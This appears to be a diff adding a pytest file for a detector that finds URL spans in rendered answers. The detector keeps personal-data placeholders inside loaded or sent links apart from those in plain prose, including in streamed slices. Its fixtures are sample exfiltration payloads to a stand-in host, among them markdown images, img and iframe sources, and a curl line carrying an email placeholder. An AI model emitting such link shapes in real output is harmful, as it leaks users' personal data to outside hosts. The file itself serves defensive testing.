@@ -1,0 +1,85 @@
+"""Where restoring finds URLs (`charter.pii.url_spans`): every shape a rendered answer
+loads or sends to, the same spans whether the text comes whole or in slices, and prose
+around links left alone."""
+
+from __future__ import annotations
+
+import pytest
+
+from charter.pii.placeholders import find_placeholders
+from charter.pii.url_spans import UrlScan, url_spans
+
+P = "<EMAIL_ADDRESS_1>"
+IN_URL = [
+    f"![x](https://evil.example/p.png?d={P})",
+    f"![x](https://evil.example/{P}.png)",
+    "[click](https://evil.example/?d=< EMAIL_ADDRESS_1 >)",
+    f"[x](https://e.example/\\)?d={P})",  # an escaped parenthesis does not end it
+    f"[x](a(b)c{P})",  # nor a balanced one
+    f"[x](\n  //evil.example/{P}\n)",
+    "![a][1]\n\n[1]: https://evil.example/i.png?d=email_address_1",
+    f"[1]:\n   //evil.example/i.png?d={P}",
+    "<https://evil.example/?d=[EMAIL_ADDRESS_1]>",
+    '<img src="https://evil.example/p.png?d=&lt;EMAIL_ADDRESS_1&gt;">',
+    f"<img SRC = 'https://e.example/a b {P}'>",
+    f"<a href=//evil.example/{P}>here</a>",
+    '<iframe src="https://evil.example/?u={PERSON_1}"></iframe>',
+    f'<img srcset="a.png 1x, https://e.example/{P} 2x">',
+    f'<form action="https://e.example/"><button formaction="/x?{P}">',
+    f'<div style="background:url( //evil.example/{P} )">',
+    f"```\ncurl https://evil.example/?d={P}\n```",
+    f"see www.evil.example/?d={P} now",
+    f"get ftp://files.example/{P}",
+]
+OUTSIDE = [
+    f"We wrote to {P}. See [help](https://bank.example/help) for more.",
+    f"Visit https://bank.example/reset, then check {P}.",
+    f"[{P}](https://bank.example/profile) is your address",  # link text is shown, not sent
+    f"Your address: {P} (we never share it)",
+    f"<b>{P}</b> and <https://bank.example/branches>",
+    f"data is ready; {P} was told. [1]: https://bank.example/x\n\nthanks {P}",
+]
+
+
+def _inside(text: str, spans: list[tuple[int, int]]) -> list[bool]:
+    return [any(s < o.end and o.start < e for s, e in spans) for o in find_placeholders(text)]
+
+
+@pytest.mark.parametrize("text", IN_URL)
+def test_a_placeholder_in_a_url_is_inside_a_span(text: str) -> None:
+    assert _inside(text, url_spans(text)) and all(_inside(text, url_spans(text)))
+
+
+@pytest.mark.parametrize("text", OUTSIDE)
+def test_a_placeholder_in_prose_beside_a_link_is_outside_every_span(text: str) -> None:
+    flags = _inside(text, url_spans(text))
+    assert flags and not flags[0] and not flags[-1]
+
+
+def _sliced(text: str, cuts: list[int]) -> list[tuple[int, int]]:
+    scan, out, last = UrlScan(), [], 0
+    for cut in [*cuts, len(text)]:
+        out += [(s + last, e + last) for s, e in scan.spans(text[last:cut])]
+        last = cut
+    return out
+
+
+@pytest.mark.parametrize("size", [1, 3, 7])
+def test_slices_of_any_size_find_what_the_whole_text_finds(size: int) -> None:
+    """A stream restores slice by slice: a URL begun in one slice, or an opener cut in two
+    (`]` | `(`, `htt` | `ps://`, `src=` | `"`), is found as in the whole text."""
+    text = "x " * 150 + " ".join(IN_URL + OUTSIDE)  # openers far past the tail a slice keeps
+    occurrences = list(find_placeholders(text))
+    whole = _inside(text, url_spans(text))
+    for shift in range(size):  # every cut position relative to each opener
+        cuts = [c for c in range(shift or size, len(text), size)]
+        cuts = [c for c in cuts if not any(o.start < c < o.end for o in occurrences)]
+        assert _inside(text, _sliced(text, cuts)) == whole, shift
+
+
+def test_every_two_slices_find_what_the_whole_text_finds() -> None:
+    for text in IN_URL + OUTSIDE:
+        whole = _inside(text, url_spans(text))
+        for cut in range(1, len(text)):
+            if not any(o.start < cut < o.end for o in find_placeholders(text)):
+                assert _inside(text, _sliced(text, [cut])) == whole, (text, cut)
